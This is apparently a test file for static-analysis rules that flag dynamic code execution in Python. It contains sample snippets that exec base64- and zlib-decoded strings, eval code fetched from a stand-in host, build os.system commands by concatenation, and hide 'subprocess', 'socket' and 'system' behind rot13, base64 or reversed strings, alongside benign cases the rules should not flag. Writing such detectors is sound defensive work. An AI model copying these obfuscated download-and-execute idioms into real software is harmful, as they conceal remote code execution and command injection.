# ruff: noqa
# fmt: off
import base64
import builtins
import codecs
import importlib
import json
import os
import runpy
import urllib.request
import zlib

import requests


def bad_decoded():
    payload = base64.b64decode("cHJpbnQoMSk=")
    # ruleid: py-exec-decoded, py-dynamic-exec
    exec(payload)


def bad_inline():
    # ruleid: py-exec-decoded, py-dynamic-exec
    exec(zlib.decompress(base64.b64decode("eJzLzU0uKi4BAA==")).decode())


def bad_download():
    # ruleid: py-exec-decoded, py-dynamic-exec
    eval(urllib.request.urlopen("http://x.example/p").read())
    code = requests.get("http://x.example/p.py").text
    # ruleid: py-exec-decoded, py-dynamic-exec
    exec(compile(code, "<p>", "exec"))


def bad_concat(cmd):
    # ruleid: py-exec-decoded, py-dynamic-exec
    exec("import os;" + "os.system('" + cmd + "')")
    # ruleid: py-exec-decoded, py-dynamic-exec
    exec("".join(chr(c) for c in [112, 114, 105, 110, 116]))


def bad_reversed():
    # ruleid: py-exec-decoded, py-dynamic-exec
    exec(")1(tnirp"[::-1])


def bad_builtins():
    # ruleid: py-builtins-indirect
    f = getattr(builtins, "ex" + "ec")
    # ruleid: py-builtins-indirect
    g = __builtins__["eval"]
    # ruleid: py-builtins-indirect, py-dynamic-exec
    h = __import__("builtins")
    name = "system"
    # ruleid: py-getattr-dangerous-literal
    getattr(os, name)("id")


def bad_getattr(event):
    # ruleid: py-builtins-indirect
    getattr(os, event["f"])("id")


def bad_import():
    # ruleid: py-import-decoded, py-dynamic-exec
    m = __import__(codecs.decode("fhocebprff", "rot13"))
    # ruleid: py-import-decoded
    importlib.import_module(base64.b64decode("c29ja2V0").decode())
    # ruleid: py-import-decoded
    return getattr(m, "metsys"[::-1])


_ = lambda s: zlib.decompress(base64.b64decode(s[::-1]))
# ruleid: py-exec-literal-transform, py-dynamic-exec
exec(_(b"=ABAAAAAAA4Jc"))


def review_only(expr, path):
    # ruleid: py-dynamic-exec
    eval(expr)
    # ruleid: py-dynamic-exec
    runpy.run_path(path)
    spec = importlib.util.spec_from_file_location("m", path)
    mod = importlib.util.module_from_spec(spec)
    # ruleid: py-dynamic-exec
    spec.loader.exec_module(mod)
    # ruleid: py-getattr-dangerous-literal
    getattr(os, "popen")("id")


def benign(event, model, df):
    # ok: py-exec-decoded, py-dynamic-exec
    body = json.loads(event["body"])
    # ok: py-exec-decoded, py-dynamic-exec
    raw = base64.b64decode(body["image"])
    # ok: py-dynamic-exec, py-exec-literal-transform
    model.eval()
    # ok: py-exec-literal-transform
    print(str(b"abc"))
    # ok: py-dynamic-exec
    total = df.eval("a + b")
    # ok: py-builtins-indirect, py-getattr-dangerous-literal
    handler = getattr(body, "action", None)
    # ok: py-builtins-indirect, py-import-decoded
    mod = importlib.import_module("handlers." + body["kind"])
    # ok: py-import-decoded
    label = getattr(mod, body["action"].strip().lower(), None)
    # ok: py-exec-decoded
    text = codecs.decode(raw, "utf-8")
    import ast
    # ok: py-dynamic-exec
    value = ast.literal_eval(body["literal"])
    return {"size": len(raw), "text": text, "value": value}
